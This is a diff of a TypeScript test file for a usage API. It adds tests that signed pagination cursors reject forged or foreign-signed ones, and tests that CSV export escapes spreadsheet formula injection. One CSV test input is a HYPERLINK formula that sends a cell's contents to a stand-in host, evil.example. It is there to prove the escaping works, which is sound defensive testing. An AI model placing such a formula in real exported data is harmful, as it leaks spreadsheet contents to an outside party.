@@ -1,4 +1,6 @@
+import { randomBytes } from 'node:crypto';
 import { ApiError } from '../../src/errors/api-error';
+import { CursorCodec } from '../../src/shared/cursor';
 import { LATENCY_BUCKETS, bucketValue, latencyBucketOf, latencyPercentiles, percentileOf } from '../../src/usage/latency-histogram';
 import { csvDocument, csvField } from '../../src/usage/usage-csv';
 import {
@@ -108,13 +110,19 @@ describe('usage query parsing', () => {
     expect(monthStarts({ from: at('2026-11-01T00:00:00Z'), to: at('2026-12-01T00:00:00Z') })).toEqual([at('2026-11-01T00:00:00Z')]);
   });
 
-  it('cursors round-trip only with the query they came from', () => {
-    const cursor = encodeUsageCursor('q1', [12, 'key_a', '']);
-    expect(decodeUsageCursor(cursor, 'q1', 3)).toEqual([12, 'key_a', '']);
-    expect(paramOf(() => decodeUsageCursor(cursor, 'q2', 3))).toBe('cursor');
-    expect(paramOf(() => decodeUsageCursor(cursor, 'q1', 2))).toBe('cursor');
-    expect(paramOf(() => decodeUsageCursor('%%%', 'q1', 3))).toBe('cursor');
-    expect(paramOf(() => decodeUsageCursor(encodeUsageCursor('q1', [1.5]), 'q1', 1))).toBe('cursor');
+  it('cursors round-trip only with the query they came from, and only as issued', () => {
+    const cursors = new CursorCodec([randomBytes(32)]);
+    const cursor = encodeUsageCursor(cursors, 'q1', [12, 'key_a', '']);
+    expect(decodeUsageCursor(cursors, cursor, 'q1', 3)).toEqual([12, 'key_a', '']);
+    expect(paramOf(() => decodeUsageCursor(cursors, cursor, 'q2', 3))).toBe('cursor');
+    expect(paramOf(() => decodeUsageCursor(cursors, cursor, 'q1', 2))).toBe('cursor');
+    expect(paramOf(() => decodeUsageCursor(cursors, '%%%', 'q1', 3))).toBe('cursor');
+    expect(paramOf(() => decodeUsageCursor(cursors, encodeUsageCursor(cursors, 'q1', [1.5]), 'q1', 1))).toBe('cursor');
+    // The same values unsigned, or signed by another gateway: not issued here.
+    const forged = Buffer.from(JSON.stringify({ q: 'q1', v: ['x', 'key_a', ''] })).toString('base64url');
+    expect(paramOf(() => decodeUsageCursor(cursors, forged, 'q1', 3))).toBe('cursor');
+    const elsewhere = encodeUsageCursor(new CursorCodec([randomBytes(32)]), 'q1', [12, 'key_a', '']);
+    expect(paramOf(() => decodeUsageCursor(cursors, elsewhere, 'q1', 3))).toBe('cursor');
   });
 });
 
@@ -178,6 +186,18 @@ describe('usage CSV (RFC 4180)', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(42)).toBe('42');
     expect(csvDocument(['owner', 'credits'], [['x,y', 3]])).toBe('owner,credits\r\n"x,y",3\r\n');
+  });
+
+  it('a text cell a spreadsheet would read as a formula gets a leading quote; numbers never do', () => {
+    expect(csvField('=1+1')).toBe("'=1+1");
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\tx')).toBe("'\tx");
+    expect(csvField('\rx')).toBe('"\'\rx"');
+    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"open")')).toBe('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField(-3)).toBe('-3');
   });
 
   it('Accept: CSV when text/csv ranks above JSON', () => {
